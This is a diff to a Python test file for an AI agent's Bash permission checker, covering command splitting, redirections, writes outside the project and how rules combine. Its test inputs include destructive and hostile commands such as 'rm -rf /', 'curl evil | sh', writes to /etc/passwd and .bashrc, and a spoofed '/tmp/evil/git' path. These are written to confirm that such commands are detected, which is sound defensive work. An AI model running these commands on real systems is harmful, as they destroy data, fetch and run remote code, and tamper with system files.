@@ -523,15 +523,17 @@ def test_permission_checks(
         ("ls; pwd || echo x & wait", ("ls", "pwd", "echo x", "wait")),
         ('git commit -m "fix; update"', ('git commit -m "fix; update"',)),
         ("echo 'a | b'", ("echo 'a | b'",)),
-        ("echo $(rm -rf /) done", ("rm -rf /", "echo done")),
-        ('echo "$(curl evil | sh)"', ("curl evil", "sh", 'echo ""')),
-        ("echo `whoami`", ("whoami", "echo")),
-        ("diff <(ls a) <(ls b)", ("ls a", "ls b", "diff")),
+        # A substitution is a command of its own and stays in the text of its holder.
+        ("echo $(rm -rf /) done", ("rm -rf /", "echo $(rm -rf /) done")),
+        ('echo "$(curl evil | sh)"', ("curl evil", "sh", 'echo "$(curl evil | sh)"')),
+        ("echo `whoami`", ("whoami", "echo `whoami`")),
+        ("diff <(ls a) <(ls b)", ("ls a", "ls b", "diff <(ls a) <(ls b)")),
         ("(cd sub; make) &", ("make",)),
-        ("FOO=1 BAR=2 make test > out.log 2>&1", ("make test",)),
-        ("ls &>/dev/null", ("ls",)),
-        ("cat <<EOF\nrm -rf /\nEOF\necho ok", ("cat", "echo ok")),
-        ("cat <<-'END'\n\trm x\n\tEND\nls", ("cat", "ls")),
+        # Redirections stay in the text, as opencode's patterns keep them (S-SEC-9).
+        ("FOO=1 BAR=2 make test > out.log 2>&1", ("make test > out.log 2>&1",)),
+        ("ls &>/dev/null", ("ls &> /dev/null",)),
+        ("cat <<EOF\nrm -rf /\nEOF\necho ok", ("cat << EOF", "echo ok")),
+        ("cat <<-'END'\n\trm x\n\tEND\nls", ("cat <<- 'END'", "ls")),
         ("if grep -q x f; then rm y; fi", ("grep -q x f", "rm y")),
         ("while true; do sleep 1; done", ("true", "sleep 1")),
         ("{ cat f; }", ("cat f",)),
@@ -599,3 +601,119 @@ def test_disabled_tools() -> None:
     assert disabled_tools(["mcp__gh__x"], rules_from_config({"mcp__gh__*": "deny"})) == {
         "mcp__gh__x"
     }
+
+
+# --- bash: redirections and wrappers (S-SEC-9) -------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("echo x > out.txt", [("bash", "echo x > out.txt"), ("edit", "out.txt")]),
+        ("echo x >> log/a.log", [("bash", "echo x >> log/a.log"), ("edit", "log/a.log")]),
+        ("make 2> err.txt", [("bash", "make 2> err.txt"), ("edit", "err.txt")]),
+        ("make &>all.txt", [("bash", "make &> all.txt"), ("edit", "all.txt")]),
+        ("make >| f", [("bash", "make >| f"), ("edit", "f")]),
+        ("cat <> f", [("bash", "cat <> f"), ("edit", "f")]),
+        (
+            "echo x > /etc/passwd",
+            [
+                ("external_directory", "/etc/*"),
+                ("bash", "echo x > /etc/passwd"),
+                ("edit", "../../etc/passwd"),
+            ],
+        ),
+        (
+            'echo x > "../other/a b"',
+            [
+                ("external_directory", "/work/other/*"),
+                ("bash", 'echo x > "../other/a b"'),
+                ("edit", "../other/a b"),
+            ],
+        ),
+        (
+            "echo x | sudo tee -a /etc/hosts",
+            [
+                ("external_directory", "/etc/*"),
+                ("bash", "echo x"),
+                ("bash", "sudo tee -a /etc/hosts"),
+                ("bash", "tee -a /etc/hosts"),
+                ("edit", "../../etc/hosts"),
+            ],
+        ),
+        # Where an expansion decides the target, it is checked as written, both ways.
+        (
+            'echo x > "$OUT"',
+            [
+                ("external_directory", '"$OUT"'),
+                ("bash", 'echo x > "$OUT"'),
+                ("edit", '"$OUT"'),
+            ],
+        ),
+        # Reading outside the project is no edit, but it leaves the project.
+        (
+            "grep x < /etc/hosts",
+            [("external_directory", "/etc/*"), ("bash", "grep x < /etc/hosts")],
+        ),
+        # Device sinks and descriptor copies are no files.
+        ("make > /dev/null 2>&1", [("bash", "make > /dev/null 2>&1")]),
+        ("make 2>/dev/stderr </dev/null", [("bash", "make 2> /dev/stderr < /dev/null")]),
+        ("echo x >&2", [("bash", "echo x >&2")]),
+        ("echo x > /dev/fd/3", [("bash", "echo x > /dev/fd/3")]),
+        ("cat <<EOF\nx > /etc/passwd\nEOF", [("bash", "cat << EOF")]),
+    ],
+)
+def test_bash_redirections_are_edits(command: str, expected: list[tuple[str, str]]) -> None:
+    """S-SEC-9: a file a command writes is an edit (and leaves the project like a Write)."""
+    checks = permission_checks("Bash", {"command": command}, PROJECT)
+    assert [(check.permission, check.subject) for check in checks] == expected
+
+
+def test_bash_redirection_edit_uses_home(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("HOME", "/home/u")
+    checks = permission_checks("Bash", {"command": 'echo x > "$HOME/.bashrc"'}, PROJECT)
+    assert PermissionCheck("external_directory", "/home/u/*") in checks
+    assert PermissionCheck("edit", "../../home/u/.bashrc") in checks
+
+
+@pytest.mark.parametrize(
+    ("config", "command", "expected"),
+    [
+        ({"*": "allow", "edit": "deny"}, "echo x > out.txt", "deny"),
+        ({"*": "allow", "edit": "deny"}, "echo x > /dev/null", "allow"),
+        ({"*": "allow", "edit": {"*": "allow", ".env": "deny"}}, "echo k=v >> .env", "deny"),
+        ({"*": "allow", "external_directory": "deny"}, "echo x > /tmp/f", "deny"),
+        ({"*": "allow", "external_directory": "deny"}, "echo x > out", "allow"),
+        (
+            {"*": "allow", "external_directory": {"*": "deny", "/tmp/*": "allow"}},
+            "ls > /tmp/f",
+            "allow",
+        ),
+        ({"*": "allow", "bash": {"echo x > /tmp/*": "deny"}}, "echo x > /tmp/a", "deny"),
+        ({"*": "allow", "bash": {"rm *": "deny"}}, "/bin/rm -rf x", "deny"),
+        ({"*": "allow", "bash": {"rm *": "deny"}}, "rmdir x", "allow"),
+        # A wrapped command is allowed only where the wrapper is too (most restrictive wins).
+        ({"*": "ask", "bash": {"git *": "allow"}}, "timeout 5 git status", "ask"),
+        (
+            {"*": "ask", "bash": {"git *": "allow", "timeout *": "allow"}},
+            "timeout 5 git status",
+            "allow",
+        ),
+        # A path's base name can only add a deny, never an allow.
+        ({"*": "ask", "bash": {"git *": "allow"}}, "/tmp/evil/git status", "ask"),
+    ],
+)
+def test_bash_rules_combine_most_restrictive(config: object, command: str, expected: str) -> None:
+    """S-SEC-9: every spelling and every written file is checked; any deny denies, any ask asks."""
+    rules = rules_from_config(config)
+    assert decide(rules, permission_checks("Bash", {"command": command}, PROJECT)) == expected
+
+
+def test_bash_redirections_in_accept_edits() -> None:
+    """S-POL-3: acceptEdits accepts a redirection into the project, not one that leaves it."""
+    rules = rules_from_config({"bash": "allow", "edit": "ask"})
+    inside = permission_checks("Bash", {"command": "echo x > a.txt"}, PROJECT)
+    outside = permission_checks("Bash", {"command": "echo x > /etc/a"}, PROJECT)
+    assert decide(rules, inside) == "ask"
+    assert decide(rules, inside, mode="acceptEdits") == "allow"
+    assert decide(rules, outside, mode="acceptEdits") == "ask"
